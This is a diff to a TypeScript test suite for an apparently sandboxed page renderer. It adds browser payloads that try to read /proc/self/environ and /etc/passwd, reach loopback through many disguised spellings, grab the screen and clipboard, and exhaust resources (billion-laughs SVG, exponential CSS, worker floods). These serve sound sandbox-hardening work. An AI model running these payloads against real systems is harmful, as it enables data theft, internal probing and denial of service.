@@ -52,6 +52,13 @@ const waysOut: Record<string, string> = {
   advertising: `(navigator as any).joinAdInterestGroup?.({ owner: location.origin, name: 'q', updateURL: web, biddingLogicURL: web }, 9e3); into('<img attributionsrc="' + web + '" src="' + web + '">'); (globalThis as any).sharedStorage?.worklet?.addModule(web);`,
   'files of the processes': `for (const f of ['/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline', file]) { into('<iframe src="' + 'file:' + '//' + f + '"></iframe><object data="' + 'file:' + '//' + f + '"></object>'); fetch('file:' + '//' + f).then((r) => r.text()).then(tell); }`,
   'the tools of developers': `for (const port of [9222, 9229, Number(place.split(':')[1])]) { try { new WebSocket('ws://127.0.0.1:' + port + '/devtools/browser'); } catch {} } for (const scheme of ['view-source:', 'devtools:', 'filesystem:', 'blob:']) open(scheme + '//' + web);`,
+  'names looked up ahead': `for (const rel of ['preconnect', 'dns-prefetch', 'stylesheet', 'import', 'search', 'amphtml']) into('<link rel="' + rel + '" href="' + web + '">'); into('<meta http-equiv="x-dns-prefetch-control" content="on"><a href="' + web + '">q</a>');`,
+  'other spellings of this machine': `const port = place.split(':')[1]; for (const host of ['127.1', '0x7f.1', '2130706433', '017700000001', '0', '[::1]', '[::ffff:127.0.0.1]', 'localhost', 'localhost.', 'a.localhost', '127.0.0.1.nip.io', '\\u2460\\u2461\\u2466.0.0.1']) { for (const scheme of ['http', 'HTTPS', 'ws', 'ftp']) { const to = scheme + '://' + host + ':' + port + '/'; new Image().src = to; into('<iframe src="' + to + '"></iframe>'); try { new WebSocket(to); } catch {} fetch(to, { mode: 'no-cors' }).catch(() => 0); } }`,
+  'addresses that look like the stage': `const own = location.host; for (const to of ['https://' + own + '@' + place + '/', 'https://' + own + ':' + place.split(':')[1] + '/', 'https://' + own + './', '//' + place + '/stage/kit.js', 'https:/\\\\' + place, own + '\\\\@' + place]) { new Image().src = to; const s = document.createElement('script'); s.src = to; document.head.append(s); try { location.assign(to); } catch {} }`,
+  'old words of the language of pages': `into('<table background="' + web + '"><td background="' + web + '"></table><input type=image src="' + web + '"><img lowsrc="' + web + '" dynsrc="' + web + '" longdesc="' + web + '"><button formaction="' + web + '">q</button><applet code="' + web + '"></applet><frameset><frame src="' + web + '"></frameset><bgsound src="' + web + '"><svg><script href="' + web + '"></' + 'script></svg>'); document.body.setAttribute('background', web); document.documentElement.setAttribute('manifest', web);`,
+  'a film of the screen': `const d = navigator.mediaDevices as any; for (const ask of ['getDisplayMedia', 'getUserMedia', 'enumerateDevices']) d?.[ask]?.({ video: true, audio: true }).then((s: unknown) => tell(JSON.stringify(s))).catch(() => 0); (globalThis as any).queryLocalFonts?.().then((f: unknown[]) => tell('fonts ' + f.length)).catch(() => 0); (navigator as any).clipboard?.readText().then(tell).catch(() => 0);`,
+  'a way that is taken over': `const n = (globalThis as any).navigation; n?.addEventListener('navigate', (e: any) => e.canIntercept && e.intercept({ handler: () => new Promise(() => 0) })); n?.navigate(web); const d = n?.navigate('data:text/html,<img src=' + web + '>'); d?.finished?.catch(() => 0); d?.committed?.catch(() => 0); open('about:blank')?.document.write('<img src="' + web + '"><script>fetch("' + web + '")</' + 'script>');`,
+  'what the browser keeps for its makers': `const g = globalThis as any; for (const key of Reflect.ownKeys(g)) { if (/cdc|puppeteer|devtools|chrome|binding/i.test(String(key))) tell('found ' + String(key)); } for (const to of ['chrome://version', 'chrome://net-export', 'chrome-untrusted://x', 'about:srcdoc', 'view-source:file:///etc/passwd', 'devtools://devtools/bundled/inspector.html']) into('<iframe src="' + to + '"></iframe>');`,
 };
 
 /** Statements that stall, flood or fill; `scene` follows each. */
@@ -72,6 +79,20 @@ const waysToStall: Record<string, string> = {
   'a size that answers itself': `const d = document.createElement('div'); document.body.append(d); new ResizeObserver(() => { d.style.width = Math.random() * 1e7 + 'px'; d.textContent += 'x'.repeat(1e5); }).observe(d);`,
   'locks that nobody opens': `navigator.locks.request('q', () => new Promise(() => 0)); navigator.locks.request('q', { steal: true }, () => new Promise(() => 0)); const { port1, port2 } = new MessageChannel(); port1.onmessage = () => { port2.postMessage(new ArrayBuffer(1 << 20)); port2.postMessage(0); }; port2.postMessage(0);`,
   'rules of chance without end': `const spin = () => { crypto.getRandomValues(new Uint8Array(65536)); queueMicrotask(spin); }; spin();`,
+  'a flood of questions for own files': `const urls = ['/stage/kit.js', '/stage/page.js', '/fonts.css', ...[...document.fonts].map(() => '/fonts.css')]; for (let i = 0; i < 30000; i++) { new Image().src = urls[i % urls.length] + '?' + i; }`,
+  'typefaces over and over': `const urls = [...document.styleSheets].flatMap((s) => { try { return [...s.cssRules]; } catch { return []; } }).map((r) => r.cssText.split('url("')[1]?.split('"')[0]).filter(Boolean); for (let i = 0; i < 20000; i++) new FontFace('q' + i, 'url(' + urls[i % urls.length] + '?' + i + ')').load().catch(() => 0);`,
+  'workers of own files': `for (let i = 0; i < 3000; i++) new Worker('/stage/kit.js?' + i, { type: 'module' });`,
+  'a change of views that never comes': `for (let i = 0; i < 50; i++) { const t = (document as any).startViewTransition(() => new Promise(() => 0)); for (const p of [t.ready, t.finished, t.updateCallbackDone]) p.catch(() => 0); }`,
+  'a drawing that laughs': `const lol = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + [...'bcdefghij'].map((n, i) => '<!ENTITY ' + n + ' "' + ('&' + 'abcdefghij'[i] + ';').repeat(10) + '">').join('') + ']><svg xmlns="http' + '://www.w3.org/2000/svg"><text>&j;</text></svg>'; for (let i = 0; i < 20; i++) { const im = new Image(); im.src = 'data:image/svg+xml,' + encodeURIComponent(lol); document.body.append(im); } new DOMParser().parseFromString(lol, 'text/xml');`,
+  'a drawing of drawings': `let g = '<g id="g0"><rect width="9" height="9"/></g>'; for (let i = 1; i < 12; i++) g += '<g id="g' + i + '">' + ('<use href="#g' + (i - 1) + '"/>').repeat(10) + '</g>'; document.body.insertAdjacentHTML('beforeend', '<svg width="9" height="9">' + g + '</svg>');`,
+  'a style that doubles': `let css = ':root{--v0:' + 'x'.repeat(1000); for (let i = 1; i < 60; i++) css += ';--v' + i + ':var(--v' + (i - 1) + ')var(--v' + (i - 1) + ')'; document.body.insertAdjacentHTML('beforeend', '<style>' + css + '} p::after{content:var(--v59);width:var(--v59)}</style>');`,
+  'columns within columns': `document.body.insertAdjacentHTML('beforeend', '<div style="columns:1000;height:1px">'.repeat(30) + 'word '.repeat(2e4)); document.body.insertAdjacentHTML('beforeend', '<div style="display:grid;grid-template:repeat(30000,1px)/repeat(30000,1px)">' + '<i></i>'.repeat(1e4) + '</div><table>' + '<tr><td rowspan=65534 colspan=1000>q'.repeat(300) + '</table>');`,
+  'layers of their own': `document.body.insertAdjacentHTML('beforeend', '<div style="position:fixed;inset:-4000px;will-change:transform;backdrop-filter:blur(40px);mix-blend-mode:difference">q</div>'.repeat(2000));`,
+  'a word of a million marks': `document.body.insertAdjacentHTML('beforeend', '<p style="font-size:40px;text-wrap:balance;hyphens:auto">' + 'a' + '\\u0301'.repeat(1e6) + '\\u202e\\u2067'.repeat(1e5) + '\\u{1F468}\\u200d'.repeat(1e5) + '</p><textarea rows=9>' + 'x'.repeat(2e7) + '</textarea>');`,
+  'a typeface that swells': `for (let i = 0; i < 40; i++) new FontFace('w' + i, Uint8Array.from({ length: 4e6 }, (_, k) => [0x77, 0x4f, 0x46, 0x32, 0, 1, 0, 0, 0xff, 0xff][k] ?? k & 255)).load().catch(() => 0);`,
+  'languages of numbers and words': `for (;;) { new Intl.DateTimeFormat('en', { calendar: 'chinese', dateStyle: 'full' }).formatRange(-8e14, 8e14); new Intl.Segmenter('th', { granularity: 'word' }).segment('\\u0e01'.repeat(1e6)).containing(9); 'x'.repeat(1e6).normalize('NFKD').localeCompare('y', 'zh'); }`,
+  'things saved without end': `for (let i = 0; i < 2000; i++) { const a = document.createElement('a'); a.download = '../../../../etc/q' + i; a.href = URL.createObjectURL(new Blob([new Uint8Array(1 << 20)])); a.click(); } (globalThis as any).showSaveFilePicker?.().catch(() => 0);`,
+  'a report that is too long to read': `for (let i = 0; i < 60000; i++) { const s = document.createElement('span'); s.textContent = 'word ' + i + 'x'.repeat(2000); document.getElementById('film')?.append(s); }`,
 };
 
 const reaching = (statements: string) => `
@@ -103,6 +124,7 @@ const browsers = () =>
 async function shown(code: string): Promise<{ picture: Buffer | null; told: string }> {
   const before = browsers();
   const started = performance.now();
+  const memory = watchedMemory();
   const outcome = await (async () => {
     await using film = await openStage({ bundle: stage.bundle, ...(await filmOf([{ code }])) });
     const picture = await film.capture(3, { format: 'png' });
@@ -115,7 +137,26 @@ async function shown(code: string): Promise<{ picture: Buffer | null; told: stri
   // Opening, showing and measuring may each take as long as a scene may.
   expect((performance.now() - started) / 1000).toBeLessThan(8 * limits.sceneReadySeconds);
   expect(await survivors(browsers().filter((pid) => !before.includes(pid)))).toEqual([]);
+  expect(memory.growthMiB()).toBeLessThan(mostGrowthMiB);
   return outcome;
+}
+
+/** What a page asks for and tells passes through this process, as it does through a worker's. */
+const mostGrowthMiB = 1024;
+
+function watchedMemory() {
+  const rss = () => process.memoryUsage.rss() / 2 ** 20;
+  const before = rss();
+  let peak = before;
+  const timer = setInterval(() => {
+    peak = Math.max(peak, rss());
+  }, 50).unref();
+  return {
+    growthMiB() {
+      clearInterval(timer);
+      return Math.max(peak, rss()) - before;
+    },
+  };
 }
 
 test.each(Object.entries(waysOut))(
